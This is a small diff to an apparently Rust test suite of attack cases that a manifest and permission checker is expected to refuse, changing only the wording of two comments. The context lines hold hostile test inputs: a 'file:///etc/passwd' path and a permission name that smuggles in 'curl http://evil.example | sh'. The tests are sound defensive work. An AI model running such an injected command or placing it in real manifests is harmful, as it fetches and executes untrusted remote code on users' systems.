@@ -193,7 +193,7 @@ pub(crate) fn attacks() -> Vec<Attack> {
                 "file:///etc/passwd",
             ],
         ),
-        // A command that a user is told to type does not come from the component.
+        // A command in a hint does not come from the component.
         refused(
             "a permission whose name is a command",
             changed(|manifest| {
@@ -203,7 +203,7 @@ pub(crate) fn attacks() -> Vec<Attack> {
             }),
             &["--allow-env 'X; curl http://evil.example | sh'"],
         ),
-        // The last one counts, and it alone is read.
+        // The last one counts, and only it is read.
         Attack::new("two manifests", twice),
         refused(
             "two manifests, the last of them malformed",
